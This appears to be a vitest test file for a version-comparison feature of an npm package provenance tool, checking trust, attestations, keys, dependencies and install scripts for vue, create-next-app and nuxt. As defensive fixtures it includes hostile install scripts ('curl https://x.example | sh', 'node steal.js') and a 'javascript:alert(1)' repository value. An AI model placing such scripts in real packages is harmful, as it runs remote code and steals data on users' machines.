// compareVersions on recorded versions. Verification results are DERIVED (see
// test/support/derived-verification.ts), and so are the altered records that test
// dependency, install-script, key and repository changes.
import { describe, expect, it } from 'vitest';
import type { PackageRecord, VersionRecord, VersionVerification, VersionView } from '../model';
import { derivedVersion, loadPackument, NEW_KEY_ID, OLD_KEY_ID, withVersions } from '../../../test/support/derived-record';
import {
  derivedLookup,
  failedVerification,
  unavailableVerification,
  verifiedVerification,
} from '../../../test/support/derived-verification';
import { analyzePackage } from './analyze-package';
import { compareVersions, type CompareFieldName, type VersionComparison } from './compare-versions';

const vue = loadPackument('vue');
const nextApp = loadPackument('create-next-app');
const nuxt = loadPackument('nuxt');

function viewOf(
  pkg: PackageRecord,
  version: string,
  overrides: Record<string, VersionVerification | undefined> = {},
): VersionView {
  const view = analyzePackage(pkg, derivedLookup(pkg, overrides)).versions.find((v) => v.record.version === version);
  if (!view) throw new Error(`${version} is not in ${pkg.name}`);
  return view;
}

function recordOf(pkg: PackageRecord, version: string): VersionRecord {
  const record = pkg.versions.find((v) => v.version === version);
  if (!record) throw new Error(`${version} is not in ${pkg.name}`);
  return record;
}

function field(comparison: VersionComparison, name: CompareFieldName) {
  const found = comparison.fields.find((f) => f.field === name);
  if (!found) throw new Error(`no ${name} row`);
  return found;
}

/** DERIVED: a verified result whose registry-signature and publish steps name a key. */
function verifiedWithKeys(record: VersionRecord, registryKey: string, publishKey: string): VersionVerification {
  const verification = verifiedVerification(record);
  verification.steps = verification.steps.map((step) =>
    step.step === 'registry-signature'
      ? { ...step, keyId: registryKey }
      : step.step === 'publish-attestation'
        ? { ...step, keyId: publishKey }
        : step,
  );
  return verification;
}

describe('vue 3.5.0-rc.1 → 3.6.0-alpha.5: the move to trusted publishing (derived verifications)', () => {
  const comparison = compareVersions(viewOf(vue, '3.5.0-rc.1'), viewOf(vue, '3.6.0-alpha.5'));

  it('compares every field, in a fixed order', () => {
    expect(comparison.fields.map((f) => f.field)).toEqual([
      'publisher',
      'trust',
      'verification',
      'repository',
      'commit',
      'workflow',
      'ref',
      'trigger',
      'runner',
      'trusted-publisher-config',
      'registry-key',
      'dependencies',
      'install-scripts',
    ]);
    expect(comparison).toMatchObject({ from: '3.5.0-rc.1', to: '3.6.0-alpha.5', pending: false });
  });

  it('the publisher, the trust level (stronger) and the trusted-publisher config changed', () => {
    expect(field(comparison, 'publisher')).toMatchObject({
      changed: true,
      from: { text: 'yyx990803', detail: "an account's token" },
      to: { text: 'GitHub Actions (trusted publisher)' },
    });
    expect(field(comparison, 'trust')).toMatchObject({
      changed: true,
      direction: 'stronger',
      from: { text: 'Provenance' },
      to: { text: 'Trusted publisher' },
    });
    const config = field(comparison, 'trusted-publisher-config');
    expect(config.changed).toBe(true);
    expect(config.from).toBeUndefined();
    expect(config.to?.text).toMatch(/^oidc:/);
  });

  it('the same repository, workflow, trigger and runner, from the certificate', () => {
    for (const name of ['repository', 'workflow', 'trigger', 'runner', 'verification'] as const) {
      expect(field(comparison, name).changed, name).toBe(false);
    }
    expect(field(comparison, 'repository').to).toEqual({
      text: 'https://github.com/vuejs/core',
      source: 'certificate',
      verified: true,
      href: 'https://github.com/vuejs/core',
    });
    expect(field(comparison, 'ref')).toMatchObject({
      changed: true,
      from: { text: 'refs/tags/v3.5.0-rc.1' },
      to: { text: 'refs/tags/v3.6.0-alpha.5' },
    });
  });

  it('no commit is recorded on either side: no diff link', () => {
    expect(field(comparison, 'commit')).toEqual({ field: 'commit', label: 'Commit', changed: false });
    expect(comparison.commitDiffUrl).toBeUndefined();
  });

  it('the dependencies that were added, removed or changed, by name', () => {
    // Full records (parsePackument's): they have their dependencies.
    const before = recordOf(vue, '3.5.0-rc.1').dependencies ?? {};
    const after = recordOf(vue, '3.6.0-alpha.5').dependencies ?? {};
    expect(comparison.dependencies.length).toBeGreaterThan(0);
    for (const change of comparison.dependencies) {
      expect(change.from).toBe(before[change.name]);
      expect(change.to).toBe(after[change.name]);
      expect(change.kind).toBe(
        before[change.name] === undefined ? 'added' : after[change.name] === undefined ? 'removed' : 'changed',
      );
    }
    const names = comparison.dependencies.map((c) => c.name);
    expect(names).toEqual([...names].sort());
    expect(field(comparison, 'dependencies')).toMatchObject({
      changed: true,
      from: { text: `${Object.keys(before).length} dependencies` },
      to: { text: `${Object.keys(after).length} dependencies` },
    });
    expect(comparison.summary).toMatch(
      /^\d+ of 13 compared fields differ between 3\.5\.0-rc\.1 and 3\.6\.0-alpha\.5: publisher, trust level, /,
    );
  });
});

describe('create-next-app 14.1.1 → 12.3.7: a backport without provenance (derived verifications)', () => {
  const comparison = compareVersions(viewOf(nextApp, '14.1.1'), viewOf(nextApp, '12.3.7'));

  it('trust is weaker and verification changed; the build facts are gone', () => {
    expect(field(comparison, 'trust')).toMatchObject({
      changed: true,
      direction: 'weaker',
      to: { text: 'No provenance' },
    });
    expect(field(comparison, 'verification')).toMatchObject({
      changed: true,
      from: { text: 'Verified' },
      to: { text: 'No attestation' },
    });
    const workflow = field(comparison, 'workflow');
    expect(workflow.changed).toBe(true);
    expect(workflow.from?.text).toBe('.github/workflows/release.yml');
    expect(workflow.to).toBeUndefined();
    expect(field(comparison, 'publisher').changed).toBe(false);
  });

  it('both commits are known in the same repository: the forge diff links them', () => {
    const commit = field(comparison, 'commit');
    expect(commit.changed).toBe(true);
    expect(commit.from).toMatchObject({ source: 'certificate', verified: true });
    // 12.3.7's commit is its package.json gitHead: a claim, and labelled so.
    expect(commit.to).toMatchObject({ source: 'metadata', verified: false });
    expect(comparison.commitDiffUrl).toBe(
      `https://github.com/vercel/next.js/compare/${commit.from?.text}...${commit.to?.text}`,
    );
  });
});

describe('changes built in code (derived records and verifications)', () => {
  const base = recordOf(nuxt, '4.3.1');

  function pairOf(
    changes: Partial<VersionRecord>,
    overrides: (after: VersionRecord) => Record<string, VersionVerification | undefined> = () => ({}),
  ) {
    const after = derivedVersion(base, {
      version: '4.3.2-derived',
      publishedAt: '2026-02-08T10:00:00.000Z',
      distTags: [],
      ...changes,
    });
    const pkg = withVersions(nuxt, [after]);
    const extra = overrides(after);
    return compareVersions(viewOf(pkg, '4.3.1', extra), viewOf(pkg, '4.3.2-derived', extra));
  }

  it('refuses a compact record (no dependencies) rather than comparing it as having none', () => {
    const view = viewOf(nuxt, '4.3.1');
    const compact = { ...view, record: { ...view.record } };
    delete compact.record.dependencies;
    expect(() => compareVersions(compact, view)).toThrow(/compact record/);
    expect(() => compareVersions(view, compact)).toThrow(/compact record/);
  });

  it('dependencies added, removed and changed', () => {
    const dependencies = { ...base.dependencies };
    const [first, second] = Object.keys(dependencies).sort();
    delete dependencies[first!];
    dependencies[second!] = '9.9.9';
    dependencies['left-pad'] = '^1.3.0';
    const comparison = pairOf({ dependencies });
    expect(comparison.dependencies).toEqual(
      [
        { name: first!, kind: 'removed', from: base.dependencies?.[first!] },
        { name: second!, kind: 'changed', from: base.dependencies?.[second!], to: '9.9.9' },
        { name: 'left-pad', kind: 'added', to: '^1.3.0' },
      ].sort((a, b) => (a.name < b.name ? -1 : 1)),
    );
    expect(comparison.changedFields).toContain('dependencies');
  });

  it('install scripts added and changed, in npm run order', () => {
    const comparison = pairOf({
      installScripts: { postinstall: 'node steal.js', preinstall: 'curl https://x.example | sh' },
    });
    expect(comparison.installScripts).toEqual([
      { name: 'preinstall', kind: 'added', to: 'curl https://x.example | sh' },
      { name: 'postinstall', kind: 'added', to: 'node steal.js' },
    ]);
    expect(field(comparison, 'install-scripts')).toMatchObject({
      changed: true,
      from: { text: 'none' },
      to: { text: 'preinstall, postinstall' },
    });
  });

  it('nuxt 1.4.5 → 2.18.1 → 4.0.0-alpha.4: the recorded postinstall changes, then goes', () => {
    const changed = compareVersions(viewOf(nuxt, '1.4.5'), viewOf(nuxt, '2.18.1'));
    expect(changed.installScripts).toEqual([
      {
        name: 'postinstall',
        kind: 'changed',
        from: 'opencollective postinstall || exit 0',
        to: 'opencollective || exit 0',
      },
    ]);
    const removed = compareVersions(viewOf(nuxt, '2.18.1'), viewOf(nuxt, '4.0.0-alpha.4'));
    expect(removed.installScripts).toEqual([
      { name: 'postinstall', kind: 'removed', from: 'opencollective || exit 0' },
    ]);
    expect(field(removed, 'install-scripts').to).toEqual({ text: 'none' });
    // The two versions name different repositories (nuxt.js → nuxt): no diff link.
    expect(field(changed, 'repository').changed).toBe(true);
    expect(changed.commitDiffUrl).toBeUndefined();
  });

  it('a rotated npm key shows in the keys row', () => {
    const comparison = pairOf({}, (after) => ({
      '4.3.1': verifiedWithKeys(base, OLD_KEY_ID, OLD_KEY_ID),
      [after.version]: verifiedWithKeys(after, NEW_KEY_ID, OLD_KEY_ID),
    }));
    expect(field(comparison, 'registry-key')).toEqual({
      field: 'registry-key',
      label: 'npm keys used',
      changed: true,
      from: { text: OLD_KEY_ID, detail: 'registry signature and publish attestation' },
      to: { text: `${NEW_KEY_ID} (registry signature)\n${OLD_KEY_ID} (publish attestation)` },
    });
  });

  it('the same keys are not a change', () => {
    const comparison = pairOf({}, (after) => ({
      '4.3.1': verifiedWithKeys(base, NEW_KEY_ID, NEW_KEY_ID),
      [after.version]: verifiedWithKeys(after, NEW_KEY_ID, NEW_KEY_ID),
    }));
    expect(field(comparison, 'registry-key').changed).toBe(false);
  });

  it('a failed verification: trust weaker, the failing step named', () => {
    const comparison = pairOf({}, (after) => ({ [after.version]: failedVerification(after) }));
    expect(field(comparison, 'trust')).toMatchObject({
      changed: true,
      direction: 'weaker',
      to: { text: 'No provenance' },
    });
    expect(field(comparison, 'verification')).toMatchObject({
      changed: true,
      to: { text: 'Failed', detail: 'SLSA provenance failed (TLOG_BODY_ERROR)' },
    });
  });

  it('two unavailable versions are not a change, whatever the reason', () => {
    const comparison = pairOf({}, (after) => ({
      '4.3.1': unavailableVerification(base, 'HTTP 404'),
      [after.version]: unavailableVerification(after, 'malformed JSON'),
    }));
    expect(field(comparison, 'verification')).toMatchObject({
      changed: false,
      from: { text: 'Unavailable', detail: 'HTTP 404' },
      to: { text: 'Unavailable', detail: 'malformed JSON' },
    });
  });

  it('while a verification runs the comparison is pending and the trust is marked claimed', () => {
    const comparison = pairOf({}, (after) => ({ [after.version]: undefined }));
    expect(comparison.pending).toBe(true);
    expect(field(comparison, 'verification').to).toEqual({ text: 'Verifying…' });
    expect(field(comparison, 'trust').to?.detail).toBe('claimed by the registry: verification has not finished');
  });

  it('another repository: changed, and no diff link even with both commits known', () => {
    const comparison = pairOf(
      { gitHead: 'b'.repeat(40), repositoryUrl: 'git+https://github.com/evil/nuxt.git' },
      (after) => ({
        '4.3.1': verifiedVerification({ ...base, gitHead: 'a'.repeat(40) }),
        [after.version]: verifiedVerification(after),
      }),
    );
    expect(field(comparison, 'repository')).toMatchObject({
      changed: true,
      from: { text: 'https://github.com/nuxt/nuxt' },
      to: { text: 'https://github.com/evil/nuxt' },
    });
    expect(field(comparison, 'commit').changed).toBe(true);
    expect(comparison.commitDiffUrl).toBeUndefined();
  });

  it('a javascript: repository from metadata is text, never a link', () => {
    const comparison = pairOf({ repositoryUrl: 'javascript:alert(1)', gitHead: 'c'.repeat(40) }, (after) => ({
      [after.version]: absentLike(after),
    }));
    const repository = field(comparison, 'repository');
    expect(repository.to).toMatchObject({ text: 'javascript:alert(1)', source: 'metadata' });
    expect(repository.to?.href).toBeUndefined();
    expect(comparison.commitDiffUrl).toBeUndefined();
  });

  it('a version compared with itself agrees on everything', () => {
    const view = viewOf(nuxt, '4.3.1');
    const comparison = compareVersions(view, view);
    expect(comparison.changedFields).toEqual([]);
    expect(comparison.summary).toBe('Both sides are 4.3.1: nothing to compare.');
  });

  it('a copy published again differs only in its ref', () => {
    const comparison = pairOf({});
    // Derived certificates name each version's tag, so the ref differs; the rest agrees.
    expect(comparison.changedFields).toEqual(['ref']);
    expect(comparison.summary).toBe('1 of 13 compared fields differs between 4.3.1 and 4.3.2-derived: ref.');
  });
});

/** DERIVED: a record that claims nothing verifies as absent. */
function absentLike(record: VersionRecord): VersionVerification {
  return derivedLookup({ ...nuxt, versions: [{ ...record, dist: { ...record.dist, attestations: undefined } }] })(
    record.version,
  )!;
}
